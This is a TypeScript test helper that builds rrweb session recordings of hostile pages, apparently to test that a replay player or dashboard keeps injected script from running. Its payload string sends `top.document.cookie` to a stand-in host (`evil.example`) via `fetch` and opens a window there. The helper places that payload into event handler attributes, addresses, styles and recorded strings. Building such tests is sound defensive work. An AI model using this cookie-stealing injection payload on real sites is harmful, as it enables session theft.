// Makes a recording of each attack in hostile/: what is there from the start, what a mutation adds, what attributes
// bring later, and what a visitor's moves then touch.
import { readFileSync } from "node:fs";
import { root } from "./paths";

export interface HostilePage {
  name: string;
  /** Its host, which nobody else calls. */
  host: string;
  userAgent: string;
  events: RecordedEvent[];
}

export interface RecordedEvent {
  type: number;
  data: unknown;
  timestamp: number;
}

/** `[tag, attributes, ...children]`, or a text. */
type Sketch = string | [string, Record<string, string | number>, ...Sketch[]];

interface SerializedNode {
  id: number;
  [key: string]: unknown;
}

interface Add {
  parentId: number;
  nextId: null;
  node: SerializedNode;
}

/** What a test looks for to know that a page was played to its end. */
export const END_ID = "hostile-end";
/** What the console says when a page's code has run. */
export const CONSOLE_MARK = "hostile code ran";

const AGENT =
  "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Safari/537.36";
const HTML = 2;
const HEAD = 3;
const BODY = 4;
const PLACE = 5;
const STYLE = 6;
const STYLE_TEXT = 7;
const FIRST_FREE = 10;

function read(name: string): unknown {
  return JSON.parse(readFileSync(root("tests/browser/hostile", `${name}.json`), "utf8"));
}

const code = (evil: string): string =>
  [
    "top.ran=(top.ran||0)+1",
    "self.ran=1",
    `console.log(\`${CONSOLE_MARK}\`)`,
    "document.title=top.document.title=`ran`",
    "top.localStorage.ran=top.sessionStorage.ran=1",
    "top.document.cookie=`ran=1`",
    "top.document.body.dataset.ran=1",
    `fetch(\`${evil}/ran?\`+top.document.cookie)`,
    `open(\`${evil}/open\`)`,
  ].join(";");

/** Every page of the corpus; all begin at `startAt`, ms since the epoch. */
export function hostilePages(own: string, startAt: number): HostilePage[] {
  const made: HostilePage[] = [];
  const add = (name: string, build: (page: Builder) => void) => {
    const host = `p${made.length}.evil.example`;
    const page = new Builder(host, own, startAt);
    build(page);
    made.push({ name, host, userAgent: page.userAgent, events: page.finished() });
  };

  for (const [name, nodes] of Object.entries(read("nodes") as Record<string, Sketch[]>)) {
    add(`nodes: ${name}`, (page) => {
      page.attack(nodes);
    });
  }
  for (const { element, handlers } of read("handlers") as { element: Sketch; handlers: string[] }[]) {
    const [tag, attributes, ...children] = element as [string, Record<string, string>, ...Sketch[]];
    add(`handlers of ${tag} ${JSON.stringify(attributes)}`, (page) => {
      page.attack(handlers.map((handler) => [tag, { ...attributes, [handler]: "%run%" }, ...children]));
    });
  }
  const { addresses, attributes } = read("addresses") as {
    addresses: Record<string, string>;
    attributes: [string, string][];
  };
  for (const [tag, attribute] of attributes) {
    add(`addresses in ${tag} ${attribute}`, (page) => {
      page.attack(
        Object.values(addresses).map((address): Sketch => [tag, beside(tag, attribute, address), "x"]),
      );
    });
  }
  for (const [name, css] of Object.entries(read("styles") as Record<string, string>)) {
    add(`styles: ${name}`, (page) => {
      page.style(css);
    });
  }
  for (const [name, events] of Object.entries(read("events") as Record<string, RecordedEvent[]>)) {
    add(`events: ${name}`, (page) => {
      page.send(events);
    });
  }
  for (const [name, text] of Object.entries(
    (read("strings") as { strings: Record<string, string> }).strings,
  )) {
    add(`strings: ${name}`, (page) => {
      page.say(text);
    });
  }
  return made;
}

/** The attribute, with what an element needs for it to be used. */
function beside(tag: string, attribute: string, address: string): Record<string, string> {
  const needed: Record<string, Record<string, string>> = {
    link: { rel: "stylesheet" },
    input: { type: "image" },
    audio: { autoplay: "" },
    video: { autoplay: "" },
    track: { default: "" },
  };
  return { ...needed[tag], [attribute]: address };
}

class Builder {
  userAgent = AGENT;
  private readonly evil: string;
  private readonly events: RecordedEvent[] = [];
  private href: string;
  private title = "A shop";
  private css = "p { color: inherit }";
  private inPlace: SerializedNode[] = [];
  private nextId = FIRST_FREE;
  private now: number;

  constructor(
    host: string,
    private readonly own: string,
    private readonly startAt: number,
  ) {
    this.evil = `http://${host}`;
    this.href = `${this.evil}/page`;
    this.now = startAt + 20;
  }

  /** The nodes from the start, then added, then their elements added bare and given the attributes; then touched. */
  attack(sketches: Sketch[]): void {
    const first = sketches.map((each) => this.serialized(each, this.inPlaceFrames));
    this.inPlace.push(...first);

    const frames: Add[] = [];
    const added = sketches.map((each) => this.serialized(each, frames));
    this.mutate({ adds: added.map((node) => addTo(PLACE, node)) });
    for (const frame of frames) this.mutate({ adds: [frame], isAttachIframe: true });

    const elements = sketches.flatMap(elementsOf);
    const bare = elements.map(([tag]) => this.serialized([tag, {}], []));
    this.mutate({ adds: bare.map((node) => addTo(PLACE, node)) });
    const given = elements.map(([tag, attributes], at) => ({
      // What is said of a body is said of the page.
      id: tag === "body" ? BODY : (bare[at]?.id ?? 0),
      attributes: this.filledIn(attributes),
    }));
    this.mutate({ attributes: given });
    this.touch([...first, ...added, ...bare].map(({ id }) => id));
  }

  style(css: string): void {
    this.css = css;
    this.attack([
      ["style", { _cssText: css }],
      ["style", {}, css],
      ["p", { class: "here", style: (/\{([^{}]*)\}/.exec(css)?.[1] ?? css).trim() }, "Aa"],
      ["svg:svg", {}, ["svg:style", {}, css]],
    ]);
    const rules = css.split(/(?<=[;}]) (?=[@a-z*:])/);
    this.incremental({
      source: 8,
      id: STYLE,
      adds: rules.map((rule) => ({ rule, index: 0 })),
      replaceSync: css,
    });
    for (const declaration of (/\{([^{}]*)\}/.exec(css)?.[1] ?? "").split(/; ?/)) {
      const [property = "", ...value] = declaration.trim().split(":");
      this.incremental({
        source: 13,
        id: STYLE,
        index: [0],
        set: { property, value: value.join(":").trim(), priority: "important" },
      });
    }
    this.incremental({
      source: 15,
      id: 1,
      styles: [{ styleId: 1, rules: rules.map((rule) => ({ rule })) }],
      styleIds: [1],
    });
    this.incremental({ source: 8, styleId: 1, replace: css });
  }

  send(events: RecordedEvent[]): void {
    for (const { type, data } of events) this.push(type, data);
  }

  /** A string in each place that the dashboard shows. The visitor's id is one that the collector refuses. */
  say(text: string): void {
    this.href = text.startsWith("javascript:") ? text : `${this.evil}/${text}?${text}#${text}`;
    this.title = text;
    this.userAgent = this.filled(text).replace(/[^ -~]/g, "");
    this.attack([["p", { title: text, class: text }, text]]);
    this.push(5, { tag: text, payload: { text, [text]: text } });
    this.push(6, { plugin: "rrweb/console@1", payload: { level: text, trace: [text], payload: [text] } });
    this.push(4, { href: this.href, width: 800, height: 600 });
    this.push(2, { node: this.page(), initialOffset: { top: 0, left: 0 } });
  }

  finished(): RecordedEvent[] {
    const text = { type: 3, textContent: "The end.", id: this.nextId++ };
    const end = {
      type: 2,
      tagName: "p",
      attributes: { id: END_ID },
      childNodes: [text],
      id: this.nextId++,
    };
    this.mutate({ adds: [addTo(BODY, end)] });
    this.push(5, { tag: "last", payload: null });
    const opening = [
      { type: 4, data: { href: this.href, width: 800, height: 600 }, timestamp: this.startAt },
      {
        type: 2,
        data: { node: this.page(this.inPlace), initialOffset: { top: 0, left: 0 } },
        timestamp: this.startAt + 1,
      },
      ...this.frameEvents(),
    ];
    return [...opening, ...this.events].map((event) => this.filledIn(event));
  }

  private readonly inPlaceFrames: Add[] = [];

  private frameEvents(): RecordedEvent[] {
    return this.inPlaceFrames.map((frame, at) => ({
      type: 3,
      data: { source: 0, adds: [frame], removes: [], texts: [], attributes: [], isAttachIframe: true },
      timestamp: this.startAt + 2 + at,
    }));
  }

  private page(inPlace: SerializedNode[] = []): SerializedNode {
    const element = (id: number, tagName: string, childNodes: SerializedNode[], attributes = {}) => ({
      type: 2,
      id,
      tagName,
      attributes,
      childNodes,
    });
    const titleText = { type: 3, id: this.nextId++, textContent: this.title };
    const styleText = { type: 3, id: STYLE_TEXT, textContent: this.css, isStyle: true };
    const head = element(HEAD, "head", [
      element(this.nextId++, "title", [titleText]),
      element(STYLE, "style", [styleText]),
    ]);
    const body = element(BODY, "body", [element(PLACE, "div", inPlace)]);
    return {
      type: 0,
      id: 1,
      childNodes: [
        { type: 1, id: 8, name: "html", publicId: "", systemId: "" },
        element(HTML, "html", [head, body]),
      ],
    };
  }

  /** `frames` takes the documents of the frames in it, which rrweb sends by events of their own. */
  private serialized(sketch: Sketch, frames: Add[], rootId?: number): SerializedNode {
    const id = this.nextId++;
    const inRoot = rootId === undefined ? {} : { rootId };
    if (typeof sketch === "string") return { type: 3, id, textContent: sketch, ...inRoot };
    const [name, attributes, ...children] = sketch;
    if (name === "#document") {
      return { type: 0, id, childNodes: children.map((each) => this.serialized(each, frames, id)) };
    }
    const childNodes: SerializedNode[] = [];
    let isShadowHost = false;
    for (const child of children) {
      if (typeof child !== "string" && child[0] === "#document") {
        frames.push(addTo(id, this.serialized(child, frames)));
      } else if (typeof child !== "string" && child[0] === "#shadow") {
        isShadowHost = true;
        const [, , ...inside] = child;
        for (const each of inside) {
          childNodes.push({ ...this.serialized(each, frames, rootId), isShadow: true });
        }
      } else {
        childNodes.push(this.serialized(child, frames, rootId));
      }
    }
    const isSVG = name.startsWith("svg:");
    const tagName = name.replace("svg:", "");
    return {
      type: 2,
      id,
      tagName,
      attributes,
      childNodes,
      ...inRoot,
      ...(isSVG ? { isSVG } : {}),
      ...(isShadowHost ? { isShadowHost } : {}),
      ...(tagName.startsWith("x-") ? { isCustom: true } : {}),
    };
  }

  private touch(ids: number[]): void {
    for (const id of ids) {
      this.incremental({ source: 1, positions: [{ x: 5, y: 5, id, timeOffset: 0 }] });
      // Mouse up, down, click, context menu, double click, focus, blur, touch start and end.
      for (const type of [1, 0, 2, 3, 4, 5, 6, 7, 9]) this.incremental({ source: 2, type, id, x: 5, y: 5 });
      this.incremental({ source: 5, id, text: "typed", isChecked: true, userTriggered: true });
      this.incremental({ source: 3, id, x: 0, y: 1 });
    }
  }

  private mutate(change: Record<string, unknown>): void {
    this.incremental({ source: 0, adds: [], removes: [], texts: [], attributes: [], ...change });
  }

  private incremental(data: unknown): void {
    this.push(3, data);
  }

  private push(type: number, data: unknown): void {
    this.events.push({ type, data, timestamp: this.now });
    // Of one millisecond, as a page that is busy makes them; a step now and then, so that some are played alone.
    if (type !== 3 || this.events.length % 16 === 0) this.now += 1;
  }

  private filled(text: string): string {
    return text
      .replaceAll("%run%", code(this.evil))
      .replaceAll("%evil%", this.evil)
      .replaceAll("%own%", this.own);
  }

  private filledIn<T>(value: T): T {
    return JSON.parse(JSON.stringify(value), (_key, each: unknown) =>
      typeof each === "string" ? this.filled(each) : each,
    ) as T;
  }
}

const addTo = (parentId: number, node: SerializedNode): Add => ({ parentId, nextId: null, node });

function elementsOf(sketch: Sketch): [string, Record<string, string | number>][] {
  if (typeof sketch === "string") return [];
  const [tag, attributes, ...children] = sketch;
  return [
    ...(tag.startsWith("#") ? [] : [[tag, attributes] as [string, Record<string, string | number>]]),
    ...children.flatMap(elementsOf),
  ];
}
